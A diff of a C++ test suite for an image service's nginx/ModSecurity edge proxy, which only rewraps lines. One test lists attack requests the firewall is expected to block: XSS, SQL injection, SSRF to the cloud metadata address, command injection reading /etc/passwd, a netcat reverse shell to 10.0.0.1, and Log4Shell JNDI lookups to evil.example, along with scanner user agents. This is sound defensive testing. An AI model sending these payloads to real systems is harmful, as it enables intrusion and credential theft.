@@ -57,8 +57,8 @@ const std::vector<std::vector<std::string>> kBrowsers = {
      "Accept-Language: de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7", "Accept-Encoding: gzip, deflate, br",
      "Referer: https://shop.example.com/produkte/kaffee?kategorie=b%C3%BCro&seite=2",
      "sec-ch-ua: \"Not A(Brand\";v=\"99\", \"Google Chrome\";v=\"121\", \"Chromium\";v=\"121\"",
-     "sec-ch-ua-mobile: ?0", "sec-ch-ua-platform: \"Windows\"", "Sec-Fetch-Dest: image", "Sec-Fetch-Mode: no-cors",
-     "Sec-Fetch-Site: cross-site",
+     "sec-ch-ua-mobile: ?0", "sec-ch-ua-platform: \"Windows\"", "Sec-Fetch-Dest: image",
+     "Sec-Fetch-Mode: no-cors", "Sec-Fetch-Site: cross-site",
      "Cookie: _ga=GA1.1.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; "
      "consent={\"necessary\":true,\"stats\":false}; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbg"},
     {"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
@@ -66,7 +66,8 @@ const std::vector<std::vector<std::string>> kBrowsers = {
      "Accept-Language: en-GB,en;q=0.5", "Accept-Encoding: gzip, deflate, br, zstd", "DNT: 1",
      "Referer: https://blog.example.org/2024/03/why-we-moved/", "Sec-Fetch-Dest: image",
      "Sec-Fetch-Mode: no-cors", "Sec-Fetch-Site: same-site", "Connection: keep-alive"},
-    {"User-Agent: Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+    {"User-Agent: Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
+     "Gecko) "
      "Version/17.2 Mobile/15E148 Safari/604.1",
      "Accept: image/webp,image/avif,image/jxl,image/heic,image/heic-sequence,video/*;q=0.8,image/png,"
      "image/svg+xml,image/*;q=0.8,*/*;q=0.5",
@@ -115,7 +116,8 @@ class EdgeTest : public ::testing::Test {
 
   // Starts the edge over a folder of originals with odd names, as a user would.
   void start_edge(std::map<std::string, std::string> env) {
-    for (const char* needed : {"/usr/sbin/nginx", kModSecurityModule, kCoreRuleSet, "/usr/bin/swift-proxy-server"}) {
+    for (const char* needed :
+         {"/usr/sbin/nginx", kModSecurityModule, kCoreRuleSet, "/usr/bin/swift-proxy-server"}) {
       if (!fs::exists(needed)) GTEST_SKIP() << needed << " is not installed (scripts/install_deps.sh test)";
     }
     images_ = make_temp_dir();
@@ -135,7 +137,8 @@ class EdgeTest : public ::testing::Test {
     auto started = run_command({"/bin/bash", source_dir() + "/deploy/edge/start.sh", dir_, images_}, env);
     ASSERT_EQ(started.status, 0) << started.output;
     std::cerr << "[ edge ] start.sh took "
-              << std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - began).count() << " ms\n";
+              << std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - began).count()
+              << " ms\n";
     // The last line is the edge's URL, and DIR/env has the rest.
     const auto last = started.output.find_last_of('\n', started.output.size() - 2);
     EXPECT_EQ(started.output.substr(last + 1, 10), "EDGE_URL=h") << started.output;
@@ -192,7 +195,8 @@ TEST_F(EdgeTest, ShieldsRealTrafficFromAttacks) {
   for (const auto& browser : kBrowsers) {
     for (const auto& url : real) {
       auto response = client.get(edge_ + url, browser);
-      EXPECT_EQ(response.status, 200) << url << " with " << browser[0] << ": " << response.body.substr(0, 300);
+      EXPECT_EQ(response.status, 200)
+          << url << " with " << browser[0] << ": " << response.body.substr(0, 300);
       if (response.status != 200) continue;
       EXPECT_EQ(response.http_version, CURL_HTTP_VERSION_2_0) << url;
       EXPECT_GT(decode(response.body).width, 0) << url;
@@ -220,18 +224,30 @@ TEST_F(EdgeTest, ShieldsRealTrafficFromAttacks) {
       {"XSS in the query", "/landscape.jpg?w=100&x=%3Cscript%3Ealert(document.cookie)%3C/script%3E", {}},
       {"XSS with an event handler", "/landscape.jpg?x=%3Cimg%20src=x%20onerror=alert(1)%3E", {}},
       {"SQL injection in the query", "/landscape.jpg?id=1%27%20OR%20%271%27=%271", {}},
-      {"SQL injection with UNION", "/landscape.jpg?w=1%20UNION%20SELECT%20username,password%20FROM%20users--", {}},
+      {"SQL injection with UNION",
+       "/landscape.jpg?w=1%20UNION%20SELECT%20username,password%20FROM%20users--",
+       {}},
       {"SSRF to the metadata service", "/landscape.jpg?url=http://169.254.169.254/latest/meta-data/", {}},
       {"SSRF without a scheme", "/landscape.jpg?host=169.254.169.254", {}},
       {"shell injection", "/landscape.jpg?x=;cat%20/etc/passwd", {}},
       {"shell injection with a pipe", "/landscape.jpg?x=%7C%20nc%20-e%20/bin/sh%2010.0.0.1%204444", {}},
       {"Log4Shell in a header", "/landscape.jpg", {"X-Api-Version: ${jndi:ldap://1.2.3.4:1389/a}"}},
-      {"Log4Shell in the User-Agent", "/landscape.jpg", {"User-Agent: ${${lower:j}ndi:ldap://evil.example/x}"}},
+      {"Log4Shell in the User-Agent",
+       "/landscape.jpg",
+       {"User-Agent: ${${lower:j}ndi:ldap://evil.example/x}"}},
       {"Log4Shell in the query", "/landscape.jpg?x=%24%7Bjndi%3Armi%3A%2F%2Fevil.example%2Fa%7D", {}},
-      {"scanner User-Agent (sqlmap)", "/landscape.jpg", {"User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)"}},
-      {"scanner User-Agent (Nikto)", "/landscape.jpg", {"User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"}},
-      {"scanner User-Agent (masscan)", "/landscape.jpg", {"User-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)"}},
-      {"bad-bot User-Agent (nuclei)", "/landscape.jpg", {"User-Agent: Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"}},
+      {"scanner User-Agent (sqlmap)",
+       "/landscape.jpg",
+       {"User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)"}},
+      {"scanner User-Agent (Nikto)",
+       "/landscape.jpg",
+       {"User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"}},
+      {"scanner User-Agent (masscan)",
+       "/landscape.jpg",
+       {"User-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)"}},
+      {"bad-bot User-Agent (nuclei)",
+       "/landscape.jpg",
+       {"User-Agent: Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"}},
   };
   for (const auto& attack : attacks) {
     std::vector<std::string> headers = attack.headers;
@@ -284,7 +300,8 @@ TEST_F(EdgeTest, ShieldsRealTrafficFromAttacks) {
       << "another client address is not limited by the storm";
   std::this_thread::sleep_for(std::chrono::milliseconds(1500));  // the bucket drains at 50 a second
   HttpClient after(tls("127.0.0.2"));
-  EXPECT_EQ(after.get(edge_ + "/logo.png?w=34", {kBrowserAgent}).status, 200) << "the limited client is let through again";
+  EXPECT_EQ(after.get(edge_ + "/logo.png?w=34", {kBrowserAgent}).status, 200)
+      << "the limited client is let through again";
 }
 
 TEST_F(EdgeTest, CachesLikeTheServiceAndSurvivesNodes) {
@@ -337,9 +354,9 @@ TEST_F(EdgeTest, CachesLikeTheServiceAndSurvivesNodes) {
   std::vector<std::string> expected(kQueryParameters.begin(), kQueryParameters.end());
   expected.insert(expected.end(), kSignatureParameters.begin(), kSignatureParameters.end());
   EXPECT_EQ(split_words(params.output), expected) << "imageflex params must print the parser's parameters";
-  const std::map<std::string, std::string> sample_value = {{"w", "41"},       {"h", "41"},  {"fit", "contain"},
-                                                            {"enlarge", "true"}, {"f", "webp"}, {"q", "61"},
-                                                            {"exp", "4102444800"}, {"s", "c2lnbmF0dXJl"}};
+  const std::map<std::string, std::string> sample_value = {
+      {"w", "41"},   {"h", "41"}, {"fit", "contain"},    {"enlarge", "true"},
+      {"f", "webp"}, {"q", "61"}, {"exp", "4102444800"}, {"s", "c2lnbmF0dXJl"}};
   ASSERT_EQ(client.get(edge_ + "/logo.png?w=40", {kBrowserAgent}).status, 200);
   ASSERT_EQ(client.get(edge_ + "/logo.png?w=40", {kBrowserAgent}).header("x-edge-cache"), "HIT");
   for (const auto& name : split_words(params.output)) {
@@ -361,8 +378,8 @@ TEST_F(EdgeTest, CachesLikeTheServiceAndSurvivesNodes) {
     clients.emplace_back([&, c] {
       HttpClient load(tls("127.0.1." + std::to_string(c + 1)));
       for (int i = 0; i < kPerClient; ++i, ++done) {
-        const std::string url = i % 2 ? "/landscape.jpg?w=123&f=webp"
-                                      : "/logo.png?w=" + std::to_string(100 + c * kPerClient + i);
+        const std::string url =
+            i % 2 ? "/landscape.jpg?w=123&f=webp" : "/logo.png?w=" + std::to_string(100 + c * kPerClient + i);
         try {
           auto response = load.get(edge_ + url, {kBrowserAgent});
           if (response.status != 200) failures[c] += url + " -> " + std::to_string(response.status) + "\n";
@@ -373,7 +390,8 @@ TEST_F(EdgeTest, CachesLikeTheServiceAndSurvivesNodes) {
     });
   }
   const auto give_up = Clock::now() + std::chrono::seconds(30);
-  while (done < kTotal / 3 && Clock::now() < give_up) std::this_thread::sleep_for(std::chrono::milliseconds(2));
+  while (done < kTotal / 3 && Clock::now() < give_up)
+    std::this_thread::sleep_for(std::chrono::milliseconds(2));
   const std::string victim_url = nodes_[0];
   const int victim_port = std::stoi(victim_url.substr(victim_url.rfind(':') + 1));
   ASSERT_EQ(::kill(pids_[0], SIGKILL), 0);
@@ -387,7 +405,8 @@ TEST_F(EdgeTest, CachesLikeTheServiceAndSurvivesNodes) {
   // ---- the node comes back on its port and is taken back -------------------------------
   // Passive checks: after fail_timeout (5 s) nginx tries it again with a live request.
   revived_ = std::make_unique<ServerProcess>(
-      std::vector<std::string>{"--listen", "127.0.0.1:" + std::to_string(victim_port), "--storage", "s3://imageflex"},
+      std::vector<std::string>{"--listen", "127.0.0.1:" + std::to_string(victim_port), "--storage",
+                               "s3://imageflex"},
       std::map<std::string, std::string>{{"IF_S3_ENDPOINT", env_["IF_S3_ENDPOINT"]},
                                          {"IF_S3_ADDRESSING", "path"},
                                          {"AWS_REGION", env_["AWS_REGION"]},
@@ -413,7 +432,8 @@ TEST_F(EdgeTest, CachesLikeTheServiceAndSurvivesNodes) {
   EXPECT_EQ(stale.header("x-edge-cache"), "STALE");
   EXPECT_EQ(stale.body, original.body);
   EXPECT_EQ(client.get(edge_ + "/landscape.jpg?w=123&f=webp", {kBrowserAgent}).status, 200) << "a fresh hit";
-  EXPECT_EQ(client.get(edge_ + "/logo.png?w=999", {kBrowserAgent}).status, 503) << "never cached: no node to ask";
+  EXPECT_EQ(client.get(edge_ + "/logo.png?w=999", {kBrowserAgent}).status, 503)
+      << "never cached: no node to ask";
 }
 
 }  // namespace
